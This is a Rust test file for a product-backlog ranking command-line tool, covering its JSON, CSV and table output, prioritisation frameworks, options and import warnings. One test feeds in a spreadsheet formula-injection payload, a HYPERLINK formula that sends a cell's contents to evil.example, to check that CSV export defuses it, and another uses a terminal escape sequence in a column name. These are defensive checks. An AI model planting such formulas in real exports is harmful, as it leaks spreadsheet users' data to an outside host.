//! The `rank` and `quickstart` examples, run as subprocesses: outputs and options of the
//! command line. Error cases are in `cli_errors.rs`.

#![cfg(feature = "csv")]

use std::path::Path;

use crate::support::{INTERCOM, fails, file, intercom, ok, rank, run_example, run_in};

#[test]
fn json_output_has_the_exact_shape() {
    let run = rank(&[&intercom(), "--format", "json", "--top", "2"]);
    assert_eq!(
        ok(&run),
        r#"{
  "framework": "rice",
  "ranking": [
    {
      "position": 1,
      "rank": 1,
      "id": "P3",
      "title": "Project 3",
      "score": 800.0,
      "breakdown": {
        "reach": 800.0,
        "impact": 2.0,
        "confidence": 0.5,
        "effort": 1.0,
        "rice": 800.0
      }
    },
    {
      "position": 2,
      "rank": 2,
      "id": "P1",
      "title": "Project 1",
      "score": 675.0,
      "breakdown": {
        "reach": 450.0,
        "impact": 3.0,
        "confidence": 1.0,
        "effort": 2.0,
        "rice": 675.0
      }
    }
  ],
  "warnings": [],
  "unscored": [
    {
      "id": "P4",
      "missing": [
        "impact",
        "confidence",
        "effort"
      ]
    }
  ]
}
"#
    );
    assert_eq!(run.stderr, "", "json carries warnings and unscored items itself");
}

#[test]
fn json_moscow_has_categories_null_scores_and_warnings() {
    let run = rank(&[&intercom(), "--framework", "moscow", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(ok(&run)).expect("json");
    let rows: Vec<(u64, u64, &str, bool, &str)> = json["ranking"]
        .as_array()
        .expect("ranking")
        .iter()
        .map(|entry| {
            (
                entry["position"].as_u64().expect("position"),
                entry["rank"].as_u64().expect("rank"),
                entry["id"].as_str().expect("id"),
                entry["score"].is_null(),
                entry["category"].as_str().expect("category"),
            )
        })
        .collect();
    // Within a category the input order stands, and the whole category shares one rank.
    assert_eq!(
        rows,
        [
            (1, 1, "P2", true, "must"),
            (2, 1, "P3", true, "must"),
            (3, 3, "P1", true, "should"),
            (4, 4, "P4", true, "could")
        ]
    );
    assert_eq!(json["framework"], "moscow");
    assert_eq!(json["unscored"], serde_json::json!([]));
    // Must Haves: 4 + 1 = 5 of the Must + Should + Could effort 4 + 1 + 2 = 7 (P4 has none).
    assert_eq!(
        json["warnings"],
        serde_json::json!([
            "must haves take 71.4 % of the must + should + could effort (5 of 7); DSDM advises at most 60 %",
            "1 must/should/could item lacks an effort; the 60 % check leaves them out"
        ])
    );
}

#[test]
fn csv_output_has_a_header_and_one_row_per_entry() {
    let run = rank(&[&intercom(), "--format", "csv"]);
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
         1,1,P3,Project 3,800.0,800.0,2.0,0.5,1.0,800.0\n\
         2,2,P1,Project 1,675.0,450.0,3.0,1.0,2.0,675.0\n\
         3,3,P2,Project 2,400.0,2000.0,1.0,0.8,4.0,400.0\n"
    );
    assert_eq!(
        run.stderr,
        "warning: item \"P4\": unscored, rice needs impact, confidence, effort, which the item lacks\n"
    );

    let run = rank(&[&intercom(), "--format", "csv", "--framework", "moscow", "--then", "wsjf"]);
    // WSJF: P2 (8 + 8 + 4) / 4 = 5, P3 6 / 1 = 6, P1 9 / 2 = 4.5; P4 lacks the WSJF inputs.
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,category,business_value,time_criticality,risk_reduction,\
         cost_of_delay,job_size,wsjf\n\
         1,1,P3,Project 3,6.0,must,2.0,2.0,2.0,6.0,1.0,6.0\n\
         2,2,P2,Project 2,5.0,must,8.0,8.0,4.0,20.0,4.0,5.0\n\
         3,3,P1,Project 1,4.5,should,1.0,3.0,5.0,9.0,2.0,4.5\n"
    );
}

#[test]
fn table_lists_entries_then_unscored_items() {
    let run = rank(&[&intercom()]);
    assert_eq!(
        ok(&run),
        "\
pos  rank  id  title      score  reach  impact  conf  effort
---  ----  --  ---------  -----  -----  ------  ----  ------
  1     1  P3  Project 3    800    800       2   0.5       1
  2     2  P1  Project 1    675    450       3     1       2
  3     3  P2  Project 2    400   2000       1   0.8       4

unscored: these items lack fields rice needs (unscored is not zero)
id  missing
--  --------------------------
P4  impact, confidence, effort
"
    );
    assert_eq!(run.stderr, "");
}

#[test]
fn table_shortens_long_titles_to_fit_100_columns() {
    let long = "A very long title that goes on and on about checkout, invoices, taxes and everything else";
    let backlog = format!(
        r#"[{{"id": "LONG-1", "title": "{long}", "reach": 1, "impact": 1, "confidence": 1, "effort": 1}}]"#
    );
    let run = rank(&[&file("long.json", &backlog), "--alignment-weight", "0.5"]);
    let out = ok(&run);
    assert!(out.lines().all(|line| line.chars().count() <= 100), "{out}");
    assert!(out.contains("  A very long title that goes on…  "), "{out}");
}

#[test]
fn wsjf_and_moscow_with_then_rank_by_their_scores() {
    let run = rank(&[&intercom(), "--framework", "wsjf", "--format", "csv"]);
    let ids: Vec<&str> = ok(&run).lines().skip(1).map(|line| line.split(',').nth(2).expect("id")).collect();
    assert_eq!(ids, ["P3", "P2", "P1"]);

    // Under MoSCoW then RICE, the Musts come first, ordered by RICE: P3 800, P2 400, then P1.
    let run = rank(&[&intercom(), "--framework", "moscow", "--then", "rice", "--format", "csv"]);
    let rows: Vec<Vec<&str>> =
        ok(&run).lines().skip(1).map(|line| line.split(',').take(6).collect()).collect();
    assert_eq!(
        rows,
        [
            ["1", "1", "P3", "Project 3", "800.0", "must"],
            ["2", "2", "P2", "Project 2", "400.0", "must"],
            ["3", "3", "P1", "Project 1", "675.0", "should"]
        ]
    );
}

#[test]
fn alignment_weight_scales_scores() {
    // λ = 0.5: P1 (alignment 1) keeps 675, P3 (alignment 0) 800 · 0.5 = 400, P2 (none) 200.
    let run = rank(&[&intercom(), "--alignment-weight", "0.5", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(ok(&run)).expect("json");
    let scores: Vec<(&str, f64)> = json["ranking"]
        .as_array()
        .expect("ranking")
        .iter()
        .map(|entry| (entry["id"].as_str().expect("id"), entry["score"].as_f64().expect("score")))
        .collect();
    assert_eq!(scores, [("P1", 675.0), ("P3", 400.0), ("P2", 200.0)]);
    assert_eq!(json["ranking"][1]["breakdown"]["alignment"], 0.0);
    assert_eq!(json["ranking"][1]["breakdown"]["alignment_factor"], 0.5);

    // With MoSCoW it weights the secondary engine's score.
    let run = rank(&[
        &intercom(),
        "--framework",
        "moscow",
        "--then",
        "rice",
        "--alignment-weight=1",
        "--format",
        "csv",
    ]);
    let scores: Vec<&str> =
        ok(&run).lines().skip(1).map(|line| line.split(',').nth(4).expect("score")).collect();
    assert_eq!(scores, ["0.0", "0.0", "675.0"]);
}

#[test]
fn top_keeps_the_first_entries() {
    let run = rank(&[&intercom(), "--top", "1", "--format", "csv"]);
    assert_eq!(ok(&run).lines().count(), 2, "header and one row");
    assert!(run.stdout.contains("\n1,1,P3,"));
    let run = rank(&[&intercom(), "--top", "0", "--format", "csv"]);
    // No entry, so no breakdown columns.
    assert_eq!(ok(&run), "position,rank,id,title,score\n");
}

#[test]
fn capacity_sets_the_basis_of_the_60_percent_check() {
    let backlog = file(
        "capacity.json",
        r#"[{"id": "A", "title": "a", "moscow": "must", "effort": 3},
            {"id": "B", "title": "b", "moscow": "should", "effort": 2}]"#,
    );
    // Without capacity: 3 of 5 is exactly 60 %, not over it.
    let run = rank(&[&backlog, "--framework", "moscow"]);
    ok(&run);
    assert_eq!(run.stderr, "");
    let run = rank(&[&backlog, "--framework", "moscow", "--capacity", "4"]);
    ok(&run);
    assert_eq!(
        run.stderr,
        "warning: must haves take 75.0 % of the capacity (3 of 4); DSDM advises at most 60 %\n"
    );
    let run = rank(&[&backlog, "--framework", "moscow", "--capacity", "4", "--format", "json"]);
    assert!(
        ok(&run).contains("\"must haves take 75.0 % of the capacity (3 of 4); DSDM advises at most 60 %\"")
    );
    assert_eq!(run.stderr, "");
}

#[test]
fn strict_turns_unscored_items_into_errors() {
    let path = intercom();
    fails(
        &rank(&[&path, "--strict"]),
        &[&format!(
            r#"{path}: item "P4": rice needs impact, confidence, effort, which the item lacks (strict mode)"#
        )],
    );
    fails(
        &run_example("rank", &["--strict", "-"], INTERCOM),
        &[
            r#"standard input: item "P4": rice needs impact, confidence, effort, which the item lacks (strict mode)"#,
        ],
    );
    let run = rank(&[&intercom(), "--strict", "--framework", "moscow"]);
    ok(&run);
}

#[test]
fn standard_input_is_json() {
    let run = run_example(
        "rank",
        &["-", "--format", "csv"],
        r#"[{"id": "S", "title": "s", "reach": 10,
        "impact": 1, "confidence": 1, "effort": 2}]"#,
    );
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n1,1,S,s,5.0,10.0,1.0,1.0,2.0,5.0\n"
    );
    fails(
        &run_example("rank", &["-"], r#"[{"id": "S", "title": "s", "confidence": 80}]"#),
        &[
            r#"standard input: item "S": confidence 80 is outside 0..=1 (write 0.8 for 80 %) at line 1 column 44"#,
        ],
    );
}

#[test]
fn csv_input_ignores_extra_columns_and_reads_empty_cells_as_absent() {
    let backlog = file(
        "export.csv",
        "Key,id,title,reach,impact,confidence,effort,moscow,depends_on,tags,alignment,Assignee\n\
         1001,A,\"Checkout, faster\",1000,high,80%,2,must,,checkout;web,0.5,Ana\n\
         1002,B,Invoices,500,,1,1,should,A; ,billing,,\n\
         1003,C,Coupons,300,low,0.5,1,could,A;B,,,Bo\n",
    );
    // A: 1000 · 2 · 0.8 / 2 = 800; C: 300 · 0.5 · 0.5 / 1 = 75; B lacks impact.
    let run = rank(&[&backlog, "--format", "csv"]);
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
         1,1,A,\"Checkout, faster\",800.0,1000.0,2.0,0.8,2.0,800.0\n\
         2,2,C,Coupons,75.0,300.0,0.5,0.5,1.0,75.0\n"
    );
    assert_eq!(
        run.stderr,
        format!(
            "warning: {backlog}: ignored columns that match no field: \"Key\", \"Assignee\"\n\
             warning: item \"B\": unscored, rice needs impact, which the item lacks\n"
        )
    );
}

#[test]
fn the_embedded_sample_ranks_with_each_framework() {
    for (args, first, ranked) in [
        (&["--framework", "rice"][..], "CHK-1", 20),
        (&["--framework", "wsjf"], "SCA-1", 20),
        (&["--framework", "moscow"], "CHK-1", 20),
        (&["--framework", "moscow", "--then", "wsjf"], "SCA-1", 20),
        (&["--framework", "moscow", "--then", "rice"], "CHK-1", 20),
    ] {
        let mut all = args.to_vec();
        all.extend(["--format", "json"]);
        let run = rank(&all);
        let json: serde_json::Value = serde_json::from_str(ok(&run)).expect("json");
        let ranking = json["ranking"].as_array().expect("ranking");
        assert_eq!(ranking.len(), ranked, "{args:?}");
        assert_eq!(ranking[0]["id"], first, "{args:?}");
        assert_eq!(json["unscored"], serde_json::json!([]), "{args:?}");
        assert_eq!(run.stderr, "");
        // The table fits a 100-column terminal.
        let table = rank(args);
        assert!(ok(&table).lines().all(|line| line.chars().count() <= 100), "{}", table.stdout);
    }
}

#[test]
fn the_sample_csv_ranks_as_the_sample_json() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/data");
    let json = dir.join("backlog.json");
    let csv = dir.join("backlog.csv");
    for args in [
        &["--framework", "rice", "--alignment-weight", "0.5"][..],
        &["--framework", "wsjf", "--alignment-weight", "0.25"],
        &["--framework", "moscow", "--then", "wsjf", "--alignment-weight", "1"],
    ] {
        let mut from_json = vec![json.to_str().expect("path"), "--format", "csv"];
        from_json.extend(args);
        let mut from_csv = vec![csv.to_str().expect("path"), "--format", "csv"];
        from_csv.extend(args);
        // The CSV carries each item's resolved alignment; the objective weights 4, 3, 1 make
        // every resolved value exact in binary, so both files rank bit for bit the same.
        assert_eq!(ok(&rank(&from_json)), ok(&rank(&from_csv)), "{args:?}");
    }
}

/// The Jira export the README and the guide rank, with the output they show.
#[test]
fn the_sample_jira_export_ranks_as_documented() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let run = run_in(root, "rank", &["--from", "jira", "examples/data/jira-export.csv"], "");
    assert_eq!(
        ok(&run),
        "\
pos  rank  id       title                              score  reach  impact  conf  effort
---  ----  -------  --------------------------------  ------  -----  ------  ----  ------
  1     1  PAY-101  Saved cards for returning buyers  2133.3   4000       2   0.8       3
  2     2  PAY-103  Retry failed renewals               1350   1800       3   0.5       2
  3     3  PAY-102  Apple Pay at checkout               1250   5000       1   0.5       2
  4     4  PAY-104  Card vault migration                 400   4000     0.5     1       5

unscored: these items lack fields rice needs (unscored is not zero)
id       missing
-------  -------
PAY-105  effort
"
    );
    assert_eq!(
        run.stderr,
        "warning: examples/data/jira-export.csv: ignored columns that match no field: \"Issue id\", \
         \"Issue Type\", \"Status\", \"Assignee\"\n"
    );
}

#[test]
fn embedded_sample_is_the_shipped_file() {
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/data/backlog.json");
    let run = rank(&["--format", "csv"]);
    assert_eq!(ok(&run), ok(&rank(&[shipped.to_str().expect("path"), "--format", "csv"])));
}

#[test]
fn help_prints_usage_and_succeeds() {
    let run = rank(&["--help"]);
    assert!(ok(&run).starts_with("rank: rank a product backlog"), "{}", run.stdout);
    assert!(run.stdout.contains(
        "\n      --framework <FRAMEWORK>    rice (default), wsjf, moscow, ice, cd3, opportunity, pairwise\n"
    ));
    assert_eq!(run.stderr, "");
}

#[test]
fn quickstart_ranks_with_each_engine() {
    let run = run_example("quickstart", &[], "");
    // RICE: CHK-1 4000 · 2 · 0.8 / 3 = 2133.3, CPN-1 3500 · 0.5 / 1 = 1750, SCA-1 2200 / 3 = 733.3.
    // WSJF: SCA-1 41 / 3 = 13.7, CPN-1 6 / 1 = 6, CHK-1 15 / 3 = 5. MoSCoW then WSJF: Musts first.
    assert_eq!(
        ok(&run),
        "\
rice:
  1 CHK-1   2133.3  One-click checkout
  2 CPN-1   1750.0  Coupons
  3 SCA-1    733.3  3-D Secure 2
wsjf:
  1 SCA-1     13.7  3-D Secure 2
  2 CPN-1      6.0  Coupons
  3 CHK-1      5.0  One-click checkout
moscow:
  1 SCA-1     13.7  3-D Secure 2
  2 CHK-1      5.0  One-click checkout
  3 CPN-1      6.0  Coupons
"
    );
}

#[test]
fn options_take_their_value_after_a_space_or_an_equals_sign() {
    let path = intercom();
    let spaced = rank(&["--format", "csv", "--top", "2", &path]);
    let joined = rank(&["--format=csv", "--top=2", "--", &path]);
    assert_eq!(ok(&spaced), ok(&joined));
    assert_eq!(ok(&spaced).lines().count(), 3, "header and two rows");
}

#[test]
fn options_and_the_file_come_in_any_order() {
    let path = intercom();
    let expected = "position,rank,id,title,score,category,business_value,time_criticality,risk_reduction,\
                    cost_of_delay,job_size,wsjf\n\
                    1,1,P3,Project 3,6.0,must,2.0,2.0,2.0,6.0,1.0,6.0\n";
    for args in [
        &[path.as_str(), "--framework", "moscow", "--then", "wsjf", "--top", "1", "--format", "csv"][..],
        &["--framework=moscow", &path, "--top=1", "--then", "wsjf", "--format=csv"],
        &["--format", "csv", "--then=wsjf", "--top", "1", "--framework", "moscow", &path],
        &["--top", "1", "--format", "csv", "--framework", "moscow", "--then", "wsjf", "--", &path],
    ] {
        assert_eq!(ok(&rank(args)), expected, "{args:?}");
    }
}

#[test]
fn csv_output_quotes_cells_a_spreadsheet_would_run() {
    let backlog = file(
        "formulas.json",
        r#"[{"id": "=1+1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "reach": 40,
             "impact": 1, "confidence": 1, "effort": 1, "moscow": "must"},
            {"id": "@cmd", "title": "+SUM(A1:A9)", "reach": 30, "impact": 1, "confidence": 1, "effort": 1,
             "moscow": "should", "depends_on": ["-5"]},
            {"id": "-5", "title": "\tTabbed", "reach": 20, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"},
            {"id": "safe", "title": "Safe - title", "reach": 10, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"}]"#,
    );
    let run = rank(&[&backlog, "--format", "csv"]);
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",40.0,40.0,1.0,1.0,1.0,40.0\n\
         2,2,'@cmd,'+SUM(A1:A9),30.0,30.0,1.0,1.0,1.0,30.0\n\
         3,3,'-5,'\tTabbed,20.0,20.0,1.0,1.0,1.0,20.0\n\
         4,4,safe,Safe - title,10.0,10.0,1.0,1.0,1.0,10.0\n"
    );
    // A planned order guards its promoted_by cells too; numbers are never quoted.
    let run =
        rank(&[&backlog, "--format", "csv", "--respect-dependencies", "--top", "2", "--framework", "moscow"]);
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,category,promoted_by,pinned\n\
         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",,must,,false\n\
         2,3,'-5,'\tTabbed,,could,'@cmd,false\n"
    );
    // JSON is data, not a spreadsheet: the values as they are.
    let json: serde_json::Value =
        serde_json::from_str(ok(&rank(&[&backlog, "--format", "json"]))).expect("json");
    assert_eq!(
        (&json["ranking"][0]["id"], &json["ranking"][2]["title"]),
        (&"=1+1".into(), &"\tTabbed".into())
    );
}

/// Two scored items and five that lack every RICE input.
const MANY_UNSCORED: &str = r#"[
  {"id": "A", "title": "a", "reach": 40, "impact": 1, "confidence": 0.5, "effort": 1},
  {"id": "B", "title": "b", "reach": 20, "impact": 1, "confidence": 0.5, "effort": 1},
  {"id": "U1", "title": "u1"}, {"id": "U2", "title": "u2"}, {"id": "U3", "title": "u3"},
  {"id": "U4", "title": "u4"}, {"id": "U5", "title": "u5"}
]"#;

#[test]
fn top_bounds_the_unscored_list_too() {
    let backlog = file("many-unscored.json", MANY_UNSCORED);
    let run = rank(&[&backlog, "--top", "2"]);
    assert_eq!(
        ok(&run),
        "\
pos  rank  id  title  score  reach  impact  conf  effort
---  ----  --  -----  -----  -----  ------  ----  ------
  1     1  A   a         20     40       1   0.5       1
  2     2  B   b         10     20       1   0.5       1

unscored: these items lack fields rice needs (unscored is not zero)
id  missing
--  ---------------------------------
U1  reach, impact, confidence, effort
U2  reach, impact, confidence, effort
3 more unscored items (--top 2 lists the first 2)
"
    );
    let run = rank(&[&backlog, "--top=4", "--format=csv"]);
    let lacks = |id: &str| {
        format!(
            "warning: item \"{id}\": unscored, rice needs reach, impact, confidence, effort, which the item lacks\n"
        )
    };
    assert_eq!(
        (ok(&run).lines().count(), run.stderr.clone()),
        (
            3,
            [lacks("U1"), lacks("U2"), lacks("U3"), lacks("U4")].concat()
                + "warning: 1 more unscored item (--top 4 lists the first 4)\n"
        )
    );
    // --top 0: no entry and no unscored item, only their counts, and a word on why.
    let run = rank(&[&backlog, "--top", "0"]);
    assert_eq!(
        run.stderr,
        "warning: option --top 0 lists no entry (give 1 or more to list the first ones)\n"
    );
    assert_eq!(
        ok(&run),
        "pos  rank  id  title\n---  ----  --  -----\n\n\
         unscored: these items lack fields rice needs (unscored is not zero)\n\
         5 more unscored items (--top 0 lists the first 0)\n"
    );
    // Without --top, or with a --top that leaves none out, every one is listed and no count.
    for args in [&[backlog.as_str()][..], &[&backlog, "--top", "5"]] {
        let out = rank(args).stdout;
        assert!(out.ends_with("U5  reach, impact, confidence, effort\n"), "{out}");
    }
    // JSON keeps the library's shape: every unscored item.
    let json: serde_json::Value =
        serde_json::from_str(ok(&rank(&[&backlog, "--top", "1", "--format", "json"]))).expect("json");
    assert_eq!(json["unscored"].as_array().map(Vec::len), Some(5));
    // The planned order's unscored list is bounded the same way.
    let run = rank(&[&backlog, "--top", "1", "--respect-dependencies", "--format", "csv"]);
    assert_eq!(run.stderr, lacks("U1") + "warning: 4 more unscored items (--top 1 lists the first 1)\n");
}

/// Another tool's export, read by its preset: the tool's own columns, the ones that match no field
/// named in one warning line.
#[test]
fn a_jira_export_ranks_with_from_jira() {
    let export = file(
        "jira-export.csv",
        "Summary,Issue key,Issue id,Status,Assignee,Labels,Labels,Custom field (Story Points),Custom field (Reach),Custom field (Impact),Custom field (Confidence)\n\
         Saved cards,PAY-2,10002,To Do,Ana,payments,,2,1200,medium,80%\n\
         One-click checkout,PAY-1,10001,To Do,,checkout,payments,3,4000,high,high\n",
    );
    let run = rank(&["--from", "jira", &export, "--format", "csv"]);
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
         1,1,PAY-1,One-click checkout,2666.6666666666665,4000.0,2.0,1.0,3.0,2666.6666666666665\n\
         2,2,PAY-2,Saved cards,480.0,1200.0,1.0,0.8,2.0,480.0\n"
    );
    assert_eq!(
        run.stderr,
        format!(
            "warning: {export}: ignored columns that match no field: \"Issue id\", \"Status\", \"Assignee\"\n"
        )
    );
}

#[test]
fn mappings_semicolons_and_csv_on_standard_input() {
    let csv = "Key;Name;Users;Impact;Confidence;Story Points\nA-1;Dark mode;4500;minimal;80%;1\n";
    let run = run_example(
        "rank",
        &[
            "-",
            "--input-format=csv",
            "--map",
            "Key=id,Name=title,Users=reach,Story Points=effort",
            "--format=csv",
        ],
        csv,
    );
    assert_eq!(
        ok(&run),
        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n1,1,A-1,Dark mode,900.0,4500.0,0.25,0.8,1.0,900.0\n"
    );
    assert_eq!(run.stderr, "");
    fails(
        &rank(&["--from", "jira", &intercom()]),
        &["options --from and --map read CSV (give a .csv file or --input-format csv)"],
    );
}

#[test]
fn a_config_file_declares_criteria_for_json_and_csv() {
    let config = file("config.json", r#"{"criteria": [{"id": "revenue", "min": 0, "max": 10}]}"#);
    let json = file(
        "criteria.json",
        r#"[{"id": "A", "reach": 1, "impact": 1, "confidence": 1, "effort": 1, "revenue": 7}]"#,
    );
    let csv = file("criteria.csv", "id,reach,impact,confidence,effort,revenue\nA,1,1,1,1,7\n");
    for backlog in [&json, &csv] {
        let run = rank(&[backlog, "--config", &config, "--format", "csv"]);
        assert_eq!(
            ok(&run),
            "position,rank,id,title,score,reach,impact,confidence,effort,rice\n1,1,A,,1.0,1.0,1.0,1.0,1.0,1.0\n"
        );
    }
    let run = rank(&[&json, "--format", "csv"]);
    fails(
        &run,
        &[&format!(
            "{json}: item \"A\": unknown field \"revenue\" (expected id, title, reach, impact, confidence, effort, \
         business_value, time_criticality, risk_reduction, ease, cost_of_delay, duration, importance, satisfaction, \
         moscow, alignment, depends_on, tags or a declared criterion) at line 1 column 81"
        )],
    );
}

/// Every framework ranks the embedded sample, and they disagree on what comes first.
#[test]
fn every_framework_ranks_the_sample() {
    let first = |args: &[&str]| -> String {
        let mut args = args.to_vec();
        args.extend(["--format", "csv", "--top", "1"]);
        let run = rank(&args);
        ok(&run).lines().nth(1).and_then(|row| row.split(',').nth(2)).unwrap_or_default().to_owned()
    };
    assert_eq!(first(&["--framework", "rice"]), "CHK-1");
    assert_eq!(first(&["--framework", "wsjf"]), "SCA-1");
    assert_eq!(first(&["--framework", "ice"]), "DUN-1");
    assert_eq!(first(&["--framework", "cd3"]), "DUN-1");
    assert_eq!(first(&["--framework", "opportunity"]), "DUN-1");
    assert_eq!(first(&["--scorecard", "value"]), "USG-1");
    assert_eq!(first(&["--formula", "reach * impact * confidence / effort"]), "CHK-1");
    assert_eq!(first(&["--framework", "moscow", "--then", "cd3"]), "CHK-1");
    // CD3 by the published definition: DUN-1's $10,000 a week over 3 weeks.
    let run = rank(&["--framework=cd3", "--format=json", "--top=1"]);
    assert!(
        ok(&run).contains(
            "\"cost_of_delay\": 10000.0,\n        \"duration\": 3.0,\n        \"cd3\": 3333.3333333333335"
        ),
        "{}",
        run.stdout
    );
}

#[test]
fn scorecards_and_formulas_are_engines_of_their_own() {
    fails(
        &rank(&["--scorecard", "value", "--framework", "rice"]),
        &["option --scorecard is an engine of its own: give it without --framework rice"],
    );
    fails(
        &rank(&["--scorecard", "value", "--formula", "reach"]),
        &["options --scorecard and --formula are two engines (give one)"],
    );
    fails(
        &rank(&["--scorecard", "risk"]),
        &[r#"option --scorecard: the backlog has no scorecard "risk" (its scorecards: value)"#],
    );
    let run = rank(&["--formula", "reach * "]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.starts_with("error: option --formula: "), "{}", run.stderr);
    assert!(run.stderr.contains("at character 9"), "{}", run.stderr);
}

/// Past five unscored items, standard error counts them in one line instead of one line each (a
/// million-row export with thousands of unestimated items stays readable).
#[test]
fn many_unscored_items_are_one_warning_line() {
    let items: Vec<String> = (1..=7).map(|i| format!(r#"{{"id": "U{i}"}}"#)).collect();
    let backlog = file("seven-unscored.json", &format!("[{}]", items.join(", ")));
    let run = rank(&[&backlog, "--format", "csv"]);
    assert_eq!(
        run.stderr,
        "warning: 7 items are unscored, lacking fields rice needs: \"U1\", \"U2\", \"U3\", \"U4\", \"U5\" and 2 more \
         (--format json lists each with what it lacks)\n"
    );
    let json = crate::support::json_of(&rank(&[&backlog, "--format", "json"]));
    assert_eq!(json["unscored"].as_array().map(Vec::len), Some(7));
}

/// A `--top` past any count lists everything; MoSCoW ordered by WSJF names both when an item lacks
/// WSJF's fields.
#[test]
fn a_huge_top_lists_all_and_moscow_then_names_its_secondary_engine() {
    let backlog = file(
        "moscow-then.json",
        r#"[{"id": "A", "moscow": "must", "business_value": 3, "time_criticality": 1, "risk_reduction": 1, "effort": 1},
            {"id": "B", "moscow": "could"}]"#,
    );
    let all = rank(&[&backlog, "--framework", "moscow", "--then", "wsjf", "--top", "99999999999999999999"]);
    let table = ok(&all);
    assert!(table.contains("unscored: these items lack fields moscow then wsjf needs"), "{table}");
    assert!(table.contains("B   effort, business_value, time_criticality, risk_reduction"), "{table}");
    let csv = rank(&[&backlog, "--framework", "moscow", "--then", "wsjf", "--format", "csv"]);
    assert!(csv.stderr.contains(r#"item "B": unscored, moscow then wsjf needs"#), "{}", csv.stderr);
    let error = rank(&[&backlog, "--top", "-1"]);
    assert_eq!(error.status, 2);
}

/// An export's ignored columns: each name quoted and escaped once, five at most and the count of
/// the rest.
#[test]
fn ignored_columns_are_named_once_escaped_and_counted() {
    let mut header = vec!["id".to_owned(), "Clear\u{1b}[2J".to_owned()];
    header.extend((0..5000).map(|i| format!("Extra {i}")));
    let path =
        file("many-columns.csv", &format!("{}\nA{}\n", header.join(","), ",".repeat(header.len() - 1)));
    let run = rank(&[&path]);
    let warning = run.stderr.lines().find(|line| line.contains("ignored columns")).expect("a warning");
    assert!(warning.ends_with(
        r#"ignored columns that match no field: "Clear\u{1b}[2J", "Extra 0", "Extra 1", "Extra 2", "Extra 3" and 4996 more"#
    ), "{warning}");
    assert!(!run.stderr.contains('\u{1b}'));
}
